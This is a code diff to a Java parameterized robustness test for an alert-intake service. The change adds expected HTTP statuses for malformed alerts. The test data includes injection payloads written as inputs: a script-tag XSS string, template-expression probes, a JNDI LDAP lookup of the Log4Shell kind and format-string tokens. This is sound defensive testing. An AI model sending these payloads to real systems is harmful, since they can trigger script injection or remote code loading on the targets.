@@ -280,18 +280,18 @@ class AbuseIT extends WholeApp {
   /** The intake takes what is written well; whoever looks at it later must not choke on what it means. */
   @ParameterizedTest
   @CsvSource(delimiter = '|', value = {
-    "far-future|'startsAt':'+999999999-12-31T23:59:59Z','endsAt':'+999999999-12-31T23:59:59Z'|",
-    "far-end|'endsAt':'+999999999-12-31T23:59:59Z'|", "far-past|'startsAt':'-999999999-01-01T00:00:00Z'|",
-    "nothing|'annotations':{'summary':'\\u0000'}|'odd':'\\u0000\\u0007'",
-    "long|'annotations':{'summary':'LONG'}|'odd':'LONG','alertname':'LONG'",
-    "markup|'annotations':{'summary':'<script>alert(1)</script>${7*7}#{7*7}'}|'alertname':'${jndi:ldap://x/a}%n%s'"
+    "400|far-future|'startsAt':'+999999999-12-31T23:59:59Z','endsAt':'+999999999-12-31T23:59:59Z'|",
+    "400|far-end|'endsAt':'+999999999-12-31T23:59:59Z'|", "400|far-past|'startsAt':'-999999999-01-01T00:00:00Z'|",
+    "200|nothing|'annotations':{'summary':'\\u0000'}|'odd':'\\u0000\\u0007'",
+    "200|long|'annotations':{'summary':'LONG'}|'odd':'LONG','alertname':'LONG'",
+    "200|markup|'annotations':{'summary':'<script>alert(1)</script>${7*7}#{7*7}'}|'alertname':'${jndi:ldap://x/a}%n%s'"
   })
-  void an_odd_alert_holds_up_no_other(String service, String fields, String labels) {
+  void an_odd_alert_holds_up_no_other(int status, String service, String fields, String labels) {
     String odd = "[{%s,'labels':{'service':'odd-%s','severity':'critical'%s}}]"
         .formatted(fields, service, labels == null ? "" : "," + labels)
         .replace('\'', '"')
         .replace("LONG", "长".repeat(100_000));
-    monitor.post(ALERTS, odd).expect(200);
+    monitor.post(ALERTS, odd).expect(status);
     monitor.post(ALERTS, "[{\"labels\":{\"service\":\"odd-%s\",\"alertname\":\"Plain\",\"severity\":\"critical\"}}]"
         .formatted(service)).expect(200);
 
